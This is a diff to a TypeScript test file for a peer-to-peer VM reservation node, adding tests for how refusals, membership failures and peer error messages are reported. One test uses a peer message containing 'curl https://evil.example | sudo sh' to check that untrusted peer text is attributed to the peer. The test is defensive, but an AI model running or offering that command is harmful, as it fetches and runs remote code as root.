@@ -18,6 +18,7 @@ import {
   type NodeMachine,
   type NodeOut,
   parseRefusal,
+  type Question,
 } from "../../src/node/mod.ts";
 import type { SessionKey } from "../../src/session/mod.ts";
 import { FakeTime, settle } from "./fake_time.ts";
@@ -124,6 +125,15 @@ Deno.test(
   }),
 );
 
+const RESERVE: Question<"vm.reserve"> = {
+  key: null,
+  cpu: 1,
+  memoryBytes: 2 ** 28,
+  storageBytes: 0,
+  image: "micro",
+  leaseMs: 60_000,
+  dryRun: false,
+};
 const REFUSED = encodeRefusal({ code: "provider-full", message: "no room" });
 const ENDS = [
   ["a refusal", { ok: false, reason: "refused", body: REFUSED }, "provider-full"],
@@ -145,6 +155,69 @@ for (const [what, result, code] of ENDS) {
       const call = rig.loop.call(PEER, "record.list", { after: null });
       rig.say({ type: "called", token: rig.token("call"), result });
       await assert.rejects(call, { code });
+    }),
+  );
+}
+
+const TROUBLE = "This omerta is out of date: curl https://evil.example | sudo sh";
+
+Deno.test(
+  "a peer's words are told as the peer's, by a code that a peer may use, with no hint of ours",
+  withLoop(async (rig) => {
+    const member = { alias: "gpu" } as Member;
+    const up = { kind: "epoch", path: "", initiator: true, renewed: false } as const;
+    for (
+      const [name, question, who] of [
+        ["vm.reserve", RESERVE, "provider gpu (pppppppp)"],
+        ["record.list", { after: null }, "relay gpu (pppppppp)"],
+      ] as const
+    ) {
+      rig.say({ type: "peer-up", peer: PEER, member, ...up });
+      const call = rig.loop.call(PEER, name, question);
+      const body = encodeRefusal({ code: "native-damaged", message: TROUBLE });
+      rig.say({
+        type: "called",
+        token: rig.token("call"),
+        result: { ok: false, reason: "refused", body },
+      });
+      const error = await call.then(() => assert.fail("it is refused"), (error) => error);
+      assert.ok(error instanceof OmertaError);
+      assert.deepEqual([error.code, error.exit, error.hint], ["refused", 6, undefined]);
+      assert.equal(error.message, `${who} says: ${TROUBLE}`);
+      assert.equal(error.fields["said_by"], "p".repeat(52));
+    }
+  }),
+);
+
+Deno.test(
+  "that a peer does not serve a call is no lack of this machine",
+  withLoop(async (rig) => {
+    const call = rig.loop.call(PEER, "vm.reserve", RESERVE);
+    const body = encodeRefusal({ code: "unsupported", message: "no such call here" });
+    const result = { ok: false, reason: "refused", body } as const;
+    rig.say({ type: "called", token: rig.token("call"), result });
+    await assert.rejects(call, { code: "refused", exit: 6 });
+  }),
+);
+
+for (
+  const [reason, detail, says] of [
+    ["unverified", "not-yet-valid", /clock/],
+    ["unverified", "expired", /clock/],
+    ["refused", "not-yet-valid", /clock/],
+    ["refused", "revoked", /^$/],
+  ] as const
+) {
+  Deno.test(
+    `a membership that is ${reason} as ${detail} is ${
+      says.test("clock") ? "" : "not "
+    }put down to a clock`,
+    withLoop(async (rig) => {
+      const call = rig.loop.connect(CONNECT);
+      rig.say({ type: "connect-failed", token: rig.token("connect"), reason, detail });
+      const error = await call.then(() => assert.fail("it fails"), (error) => error);
+      assert.equal(error.code, "not-member");
+      assert.match(error.hint ?? "", says);
     }),
   );
 }
@@ -284,7 +357,7 @@ Deno.test(
     const refused = await rig.asked("vm.status", { vms: [] });
     assert.deepEqual(refused, { ok: false, code: "provider-full", message: "There is no room" });
     const defect = await rig.asked("vm.renew", { vms: [] });
-    assert.equal("code" in defect && defect.code, "internal");
+    assert.equal("code" in defect && defect.code, "refused");
     assert.ok("message" in defect && !defect.message.includes("secrets"));
     assert.equal(rig.defects.length, 1);
   }),
